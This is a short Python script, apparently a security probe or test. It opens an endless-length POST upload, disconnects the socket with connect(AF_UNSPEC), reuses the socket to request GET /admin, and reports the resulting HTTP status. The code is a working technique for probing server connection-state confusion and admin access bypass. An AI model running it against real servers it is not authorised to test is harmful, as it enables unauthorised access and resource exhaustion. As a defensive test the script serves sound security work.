# SPDX-License-Identifier: Apache-2.0
"""Begins an endless upload, dissolves the connection, and uses the same socket for another one.

Usage: reuse.py HOST PORT
Prints the status of the answer to GET /admin on the second connection, or "none".
"""
import ctypes
import socket
import struct
import sys
import time

HEAD = b"POST /api/x HTTP/1.1\r\nHost: b\r\nContent-Length: 900000000000000\r\n\r\n"


def main():
    server = (sys.argv[1], int(sys.argv[2]))
    libc = ctypes.CDLL(None, use_errno=True)
    sock = socket.socket()
    sock.settimeout(3)
    sock.connect(server)
    sock.sendall(HEAD)
    time.sleep(0.3)
    unspec = struct.pack("H14x", socket.AF_UNSPEC)
    if libc.connect(sock.fileno(), unspec, len(unspec)):
        sys.exit(f"connect(AF_UNSPEC): errno {ctypes.get_errno()}")
    sock.connect(server)
    sock.sendall(b"GET /admin HTTP/1.1\r\nHost: b\r\nConnection: close\r\n\r\n")
    try:
        print(sock.recv(4096).split()[1].decode())
    except (OSError, IndexError):
        print("none")


main()
